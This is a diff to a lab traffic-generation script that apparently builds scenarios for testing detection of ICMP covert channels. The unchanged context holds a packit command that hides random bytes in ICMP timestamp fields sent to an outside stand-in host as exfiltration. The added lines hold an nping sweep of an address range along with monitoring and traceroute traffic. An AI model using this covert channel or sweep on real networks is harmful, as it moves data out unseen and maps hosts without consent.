@@ -104,6 +104,10 @@
 #   exfil_timestamp_fields  600 random bytes hidden 4 a request in the originate timestamp of
 #                       ICMP timestamp requests (packit -K 13, one id, sequence counting up)
 #   exfil_ts_packit_ids the same with packit's own random id and sequence in each request
+#   monitoring_fping_big  fping -l -p 2000 -b 1200 of two servers and an outside host for 40 s
+#                       (a monitor's large-size check)
+#   trace_hping3        hping3 -1 --traceroute to an outside host and to a server (-d 64)
+#   sweep_nping_ts      nping timestamp requests over 10.78.0.32-63
 set -uo pipefail
 sc=$1 out=$2
 here=$(cd "$(dirname "$0")" && pwd)
@@ -415,6 +419,13 @@ for i in range(120):
       x ih_atk timeout 2 packit -t ICMP -K 13 -U $((16#$l)) -k 0 -z 0 -d 203.0.113.7 -c 1 >/dev/null 2>&1
       sleep 0.2
     done < /tmp/ih_ts ;;
+  monitoring_fping_big)
+    x ih_mon timeout 42 fping -q -l -p 2000 -b 1200 10.78.0.33 10.78.0.40 203.0.113.7 >/dev/null 2>&1 ;;
+  trace_hping3)
+    x ih_ws2 timeout 30 hping3 -1 --traceroute -c 8 203.0.113.7 >/dev/null 2>&1
+    x ih_ws2 timeout 30 hping3 -1 --traceroute -c 8 -d 64 10.78.0.40 >/dev/null 2>&1 ;;
+  sweep_nping_ts)
+    x ih_atk timeout 60 nping --icmp --icmp-type time -c 1 --rate 50 -q 10.78.0.32-63 >/dev/null 2>&1 ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
